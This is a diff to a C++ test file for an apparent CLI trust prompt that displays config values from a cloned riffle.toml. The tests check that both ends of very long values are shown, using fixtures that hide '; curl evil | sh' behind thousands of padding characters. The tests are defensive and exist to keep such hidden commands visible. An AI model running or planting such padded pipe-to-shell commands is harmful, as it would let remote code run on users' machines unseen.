@@ -67,7 +67,23 @@ TEST_CASE(
   CHECK(shown.find("\nTrust") == std::string::npos);
 }
 
-TEST_CASE("a value that is too long says how much of it is missing") {
-  const auto x = judged("a.b = \"" + std::string(5000, 'x') + "\"\n");
-  CHECK_THAT(cli::trust_text(x), Contains("… (5002 bytes; line 1)\n"));
+TEST_CASE("of a value that is too long both ends are shown, or all of it") {
+  const auto x =
+      judged("a.b = \"begin" + std::string(5000, 'x') + "; curl evil | sh\"\n");
+  const auto text = cli::trust_text(x);
+  CHECK_THAT(text, Contains("│ a.b = \"beginxxx"));
+  CHECK_THAT(text, Contains("; curl evil | sh\"\n"));
+  CHECK_THAT(text, Contains(" of 5023 bytes are not shown (line 1)]"));
+  CHECK(text.size() < 3000);
+  CHECK_THAT(cli::trust_text(x, true),
+             Contains("begin" + std::string(5000, 'x') + "; curl evil | sh"));
+}
+
+TEST_CASE("of a changed line both ends are shown too") {
+  auto x = judged("c.d = \"" + std::string(5000, 'x') + "; curl evil\"\n");
+  x.before = config::trusted_file{"/clone/riffle.toml", "c.d = 2\n", "", {}};
+  const auto text = cli::trust_text(x);
+  CHECK_THAT(text, Contains("│ +c.d = \"xxx"));
+  CHECK(text.find("; curl evil") < text.find("your key elsewhere"));
+  CHECK(text.size() < 6000);
 }
